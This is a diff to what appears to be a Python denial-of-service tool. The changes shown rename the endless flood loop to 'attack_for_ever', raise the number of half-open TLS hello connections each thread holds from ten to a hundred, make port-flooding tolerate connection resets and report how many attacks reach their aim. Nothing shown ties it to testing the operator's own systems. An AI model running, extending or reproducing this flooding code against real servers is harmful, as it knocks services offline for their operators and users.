@@ -351,8 +351,8 @@ def hold_many(host, port, count, at_once):
     asyncio.run(run())
 
 
-def flood(at_once, attack):
-    """`attack` again and again, by so many at once, until the process is ended. Says how often, now and then."""
+def attack_for_ever(at_once, attack):
+    """`attack` again and again, by so many at once, until the process is ended. Says now and then how many reached their aim."""
     numbers = itertools.count(1)
 
     def for_ever():
@@ -360,7 +360,7 @@ def flood(at_once, attack):
             try:
                 attack()
             except OSError:
-                pass
+                continue
             if (number := next(numbers)) % 100 == 0:
                 say("made", number)
 
@@ -376,22 +376,25 @@ def flood_ports(host, at_once):
 
     def attack():
         with dial(host, next(ports)) as connection:
-            connection.recv(1)
+            try:
+                connection.recv(1)
+            except ConnectionResetError:
+                pass  # The answer, as nobody listens there.
 
-    flood(at_once, attack)
+    attack_for_ever(at_once, attack)
 
 
 def flood_hellos(host, port, at_once):
-    """Connections that begin a hello of TLS and stop; each of those who attack holds its last ten."""
+    """Connections that begin a hello of TLS and stop; each of those who attack holds its last hundred."""
     hello = bytes.fromhex("16030106000100") + b"\x05\xfc\x03\x03" + bytes(60)
     held = threading.local()
 
     def attack():
         connection = dial(host, port)
         connection.sendall(hello)
-        held.__dict__.setdefault("all", collections.deque(maxlen=10)).append(connection)
+        held.__dict__.setdefault("all", collections.deque(maxlen=100)).append(connection)
 
-    flood(at_once, attack)
+    attack_for_ever(at_once, attack)
 
 
 def join_listener(host, port):
